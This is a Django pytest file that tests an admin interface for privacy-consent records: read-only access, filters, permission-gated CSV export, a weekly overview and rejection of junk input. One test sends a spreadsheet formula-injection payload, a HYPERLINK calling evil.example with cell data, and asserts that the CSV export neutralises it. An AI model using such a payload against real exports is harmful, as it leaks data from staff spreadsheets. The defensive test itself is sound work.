"""Accountable staff review consent records in the admin (purposes and policy versions: see
test_privacy_officer_manages_consent)."""

import csv
import datetime
import io
import uuid
from urllib.parse import urlencode

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from consent import chain
from consent.models import ConsentRecord, Purpose
from tests.conftest import SAME_ORIGIN, STAFF_PASSWORD

pytestmark = pytest.mark.usefixtures("consent_seed")



def record(consent_id=None, action="custom", version=1, analytics=False, days_ago=0,
           fingerprint="ab" * 32, language=""):
    entry = ConsentRecord(
        consent_id=consent_id or uuid.uuid4(),
        created_at=timezone.now() - datetime.timedelta(days=days_ago),
        policy_version=version,
        choices={"functional": True, "embeds": False, "analytics": analytics},
        action=action,
        path="/",
        texts_fingerprint=fingerprint,
        language=language,
    )
    chain.append([entry])
    return entry


@pytest.fixture
def officer_client(client, django_user_model):
    """A staff member holding the dedicated consent permissions (e.g. the privacy officer)."""
    user = django_user_model.objects.create_user("officer", password=STAFF_PASSWORD, is_staff=True)
    user.user_permissions.add(
        Permission.objects.get(codename="view_consentrecord"),
        Permission.objects.get(codename="view_consent_overview"),
    )
    client.login(username="officer", password=STAFF_PASSWORD)
    return client


def test_records_are_read_only_in_the_admin(officer_client):
    entry = record()
    page = officer_client.get(f"/admin/consent/consentrecord/{entry.pk}/change/")
    assert page.status_code == 200
    assert b'name="choices"' not in page.content and b"Save" not in page.content
    assert officer_client.get("/admin/consent/consentrecord/add/").status_code == 403
    assert officer_client.post(f"/admin/consent/consentrecord/{entry.pk}/delete/").status_code == 403
    assert officer_client.post(
        f"/admin/consent/consentrecord/{entry.pk}/change/", {"action": "accept_all"}
    ).status_code == 403
    assert ConsentRecord.objects.get().action == "custom"


def test_records_can_be_searched_by_consent_id_and_filtered(officer_client):
    mine = uuid.uuid4()
    record(consent_id=mine, action="accept_all", analytics=True)
    record(consent_id=mine, action="withdraw")
    record(action="decline_all", version=1)
    record(action="custom", version=2, analytics=True, days_ago=40)

    def listed(query):
        page = officer_client.get("/admin/consent/consentrecord/" + query)
        assert page.status_code == 200
        return page.context["cl"].result_count

    assert listed(f"?q={mine}") == 2
    assert listed(f"?q={str(mine).upper()}") == 2
    assert listed("?q=not-a-uuid") == 0
    assert listed("?action__exact=withdraw") == 1
    assert listed("?version=2") == 1
    assert listed("?purpose=analytics:1") == 2
    assert listed("?purpose=analytics:0") == 2
    week_ago = (timezone.now() - datetime.timedelta(days=7)).isoformat()
    assert listed("?" + urlencode({"created_at__gte": week_ago})) == 3


def test_selected_records_export_as_csv(officer_client):
    entries = [record(action="accept_all"), record(action="decline_all")]
    response = officer_client.post(
        "/admin/consent/consentrecord/",
        {"action": "export_csv", "_selected_action": [e.pk for e in entries]},
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["action"] for row in rows] == ["accept_all", "decline_all"]
    assert rows[0]["record_hash"] == entries[0].record_hash


def test_viewing_records_alone_does_not_allow_the_export_or_overview(client, django_user_model):
    user = django_user_model.objects.create_user("auditor", password=STAFF_PASSWORD, is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_consentrecord"))
    client.login(username="auditor", password=STAFF_PASSWORD)
    entry = record()
    page = client.get("/admin/consent/consentrecord/")
    assert page.status_code == 200 and b"export_csv" not in page.content
    assert b"Weekly overview" not in page.content
    assert client.get("/admin/consent/consentrecord/overview/").status_code == 403
    response = client.post("/admin/consent/consentrecord/",
                           {"action": "export_csv", "_selected_action": [entry.pk]})
    assert not response.get("Content-Type", "").startswith("text/csv")


def test_weekly_overview_shows_the_share_who_allowed_each_purpose(officer_client):
    # This week: three visitors, two allow analytics (one changed their mind: last counts).
    changed = uuid.uuid4()
    record(consent_id=changed, analytics=False)
    record(consent_id=changed, analytics=True)
    record(analytics=True)
    record(analytics=False)
    page = officer_client.get("/admin/consent/consentrecord/overview/")
    assert page.status_code == 200
    text = page.content.decode()
    assert "<svg" in text and "<polyline" in text and 'role="img"' in text
    this_week = page.context["weeks"][-1]
    assert this_week["visitors"] == 3
    assert this_week["shares"] == {"embeds": 0.0, "analytics": 66.7}
    # The figures come from the per-day summary: the page never reads the records.
    with CaptureQueriesContext(connection) as queries:
        assert officer_client.get("/admin/consent/consentrecord/overview/").status_code == 200
    assert not [q["sql"] for q in queries if "consent_consentrecord" in q["sql"]]
    assert "66.7 %" in text
    assert page.context["weeks"][0]["visitors"] == 0
    assert Purpose.objects.filter(required=False).count() == len(page.context["chart"]["lines"])
    assert b"Weekly overview" in officer_client.get("/admin/consent/consentrecord/").content


def test_the_texts_behind_a_fingerprint_are_readable_with_the_records(officer_client, client):
    from consent.models import ShownTexts

    ShownTexts.objects.create(fingerprint="ab" * 32, content={"title": "Use of personal data"})
    page = officer_client.get(f"/admin/consent/showntexts/{'ab' * 32}/change/")
    assert page.status_code == 200 and b"Use of personal data" in page.content
    assert officer_client.get(f"/admin/consent/showntexts/{'ab' * 32}/delete/").status_code == 403


def test_records_are_found_by_the_beginning_of_their_consent_id(officer_client):
    mine = uuid.UUID("3f2a9c1b-4e2a-4b7d-9c1e-0123456789ab")
    record(consent_id=mine)
    record(consent_id=mine, action="withdraw")
    record(consent_id=uuid.UUID("3f2a9c1c-0000-4000-8000-000000000000"))
    record(consent_id=uuid.UUID("ffffffff-ffff-4fff-bfff-ffffffffffff"))

    def found(term):
        page = officer_client.get("/admin/consent/consentrecord/", {"q": term})
        assert page.status_code == 200
        return {str(r.consent_id) for r in page.context["cl"].result_list}

    assert found("3f2a9c1b") == {str(mine)}
    assert found("3F2A9C1B-4E") == {str(mine)}
    assert found(" 3f2a9c1 ") == {str(mine), "3f2a9c1c-0000-4000-8000-000000000000"}
    assert found("ffffffff-ffff-4fff-bfff-ffffffffffff") == {"ffffffff-ffff-4fff-bfff-ffffffffffff"}
    assert found("3f2a9c1d") == set()
    page = officer_client.get("/admin/consent/consentrecord/", {"q": "3f2a-zz"})
    assert page.status_code == 200 and page.context["cl"].result_count == 0
    assert "is not a consent id" in page.content.decode()


def test_records_are_filtered_by_a_date_range(officer_client):
    record(days_ago=0)
    record(days_ago=10)
    record(days_ago=40)
    today = timezone.localdate()

    def listed(**dates):
        page = officer_client.get("/admin/consent/consentrecord/", dates)
        assert page.status_code == 200
        return page.context["cl"].result_count

    assert listed(created_from=(today - datetime.timedelta(days=11)).isoformat()) == 2
    assert listed(created_to=(today - datetime.timedelta(days=10)).isoformat()) == 2
    assert listed(created_from=(today - datetime.timedelta(days=41)).isoformat(),
                  created_to=(today - datetime.timedelta(days=9)).isoformat()) == 2
    assert listed(created_from=today.isoformat(), created_to=today.isoformat()) == 1
    # The form keeps the other filters and shows the dates chosen.
    page = officer_client.get("/admin/consent/consentrecord/",
                              {"created_from": today.isoformat(), "action__exact": "custom"})
    text = page.content.decode()
    assert f'name="created_from" value="{today.isoformat()}"' in text
    assert 'type="hidden" name="action__exact" value="custom"' in text


@pytest.mark.parametrize(
    "query, message",
    [
        ("version=%C2%B2", "Unknown policy version"),
        ("version=1x", "Unknown policy version"),
        ("purpose=analytics:2", "Unknown purpose"),
        ("purpose=nothing:1", "Unknown purpose"),
        ("purpose=%F0%9F%8D%AA", "Unknown purpose"),
        ("created_from=2025-13-01", "Unknown date"),
        ("created_to=%C2%B2", "Unknown date"),
        ("created_from=0001-01-01", "Unknown date"),
        ("created_to=9999-12-31", "Unknown date"),
        ("q=%ED%A0%80", "is not a consent id"),
    ],
)
def test_junk_filter_values_get_a_message_not_a_500(officer_client, query, message):
    record()
    page = officer_client.get("/admin/consent/consentrecord/?" + query)
    assert page.status_code == 200
    assert page.context["cl"].result_count == 0
    assert message in page.content.decode()


def test_other_junk_filter_values_are_refused_by_the_admin_itself(officer_client):
    record()
    for query in ["gpc__exact=%C2%B2", "created_at__gte=%C2%B2", "p=%C2%B2", "o=%C2%B2", "e=1"]:
        response = officer_client.get("/admin/consent/consentrecord/?" + query)
        assert response.status_code in {200, 302}, query
    # PostgreSQL refuses NUL in text: refused up front, on every database.
    for query in ["action__exact=%00", "q=a%00", "created_from=%00", "x%00=1"]:
        response = officer_client.get("/admin/consent/consentrecord/?" + query)
        assert response.status_code == 400, query
        assert b"NUL" in response.content


def test_choices_are_readable_and_the_texts_shown_are_one_click_away(officer_client):
    from consent.models import ShownTexts

    ShownTexts.objects.create(fingerprint="cd" * 32, content={"title": "Use of personal data"})
    entry = record(analytics=True, fingerprint="cd" * 32)
    page = officer_client.get("/admin/consent/consentrecord/")
    text = page.content.decode()
    assert "Embedded external content: refused / Analytics: allowed" in text
    assert '{"functional"' not in text and "functional on" not in text
    texts_url = f"/admin/consent/showntexts/{'cd' * 32}/change/"
    assert f'href="{texts_url}"' in text
    assert str(entry.consent_id)[:8] in text
    detail = officer_client.get(f"/admin/consent/consentrecord/{entry.pk}/change/").content.decode()
    assert "Functional: allowed / Embedded external content: refused / Analytics: allowed" in detail
    assert f'href="{texts_url}"' in detail and str(entry.consent_id) in detail
    assert b"Use of personal data" in officer_client.get(texts_url).content


def test_a_long_list_counts_only_up_to_a_cap(officer_client, monkeypatch):
    from consent.admin import CappedCountPaginator

    monkeypatch.setattr(CappedCountPaginator, "CAP", 5)
    for _ in range(8):
        record()
    page = officer_client.get("/admin/consent/consentrecord/")
    assert page.status_code == 200
    assert "More than 5 consent records" in page.content.decode()
    assert "Select all matching records (more than 5)" in page.content.decode()
    assert officer_client.get("/admin/consent/consentrecord/?action__exact=withdraw").context[
        "cl"].result_count == 0


def test_csv_export_keeps_visitor_text_from_becoming_a_formula(officer_client, client):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    response = client.post(
        "/consent/", urlencode({"action": "decline", "next": "/"}),
        content_type="application/x-www-form-urlencoded",
        headers={**SAME_ORIGIN, "User-Agent": attack},
    )
    assert response.status_code == 303
    entry = ConsentRecord.objects.get()
    assert entry.user_agent == attack  # the proof keeps what was sent
    exported = officer_client.post(
        "/admin/consent/consentrecord/", {"action": "export_csv", "_selected_action": [entry.pk]}
    )
    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert rows[0]["user_agent"] == "'" + attack
    assert rows[0]["path"] == "/"


def test_the_overview_splits_decisions_by_language(officer_client):
    old = record(analytics=True)  # before languages: counted as English
    french = ConsentRecord(
        consent_id=uuid.uuid4(), created_at=None, policy_version=1, action="custom",
        choices={"functional": True, "embeds": False, "analytics": False},
        texts_fingerprint="ab" * 32, language="fr",
    )
    chain.append([french])
    url = "/admin/consent/consentrecord/overview/"

    def visitors(language):
        page = officer_client.get(url, {"language": language} if language else {})
        assert page.status_code == 200
        return sum(week["visitors"] for week in page.context["weeks"])

    assert (visitors(""), visitors("en"), visitors("fr"), visitors("ar")) == (2, 1, 1, 0)
    assert old.language == ""
    response = officer_client.get(url, {"language": "xx"})
    assert response.status_code == 400
    assert b"Unknown language" in response.content
    listing = officer_client.get("/admin/consent/consentrecord/", {"language__exact": "fr"})
    assert str(french.consent_id) in listing.content.decode()
    assert str(old.consent_id) not in listing.content.decode()


def test_the_record_list_reads_a_bounded_number_of_records(officer_client, monkeypatch):
    # At a million records every query on the records must stop early (a LIMIT): no
    # COUNT(*) of the table, no list of distinct values, no date hierarchy.
    from consent.admin import ConsentRecordAdmin

    monkeypatch.setattr(ConsentRecordAdmin, "list_per_page", 2)  # more than a page
    for _ in range(3):
        record(consent_id=uuid.UUID("3f2a0000-0000-4000-8000-000000000000"), language="fr")
    for query in ["", "?language__exact=fr", "?q=3f2a", "?action__exact=custom",
                  "?created_from=2025-01-01"]:
        with CaptureQueriesContext(connection) as queries:
            assert officer_client.get("/admin/consent/consentrecord/" + query).status_code == 200
        unbounded = [q["sql"] for q in queries
                     if "consent_consentrecord" in q["sql"] and "LIMIT" not in q["sql"]]
        assert not unbounded, (query, unbounded)
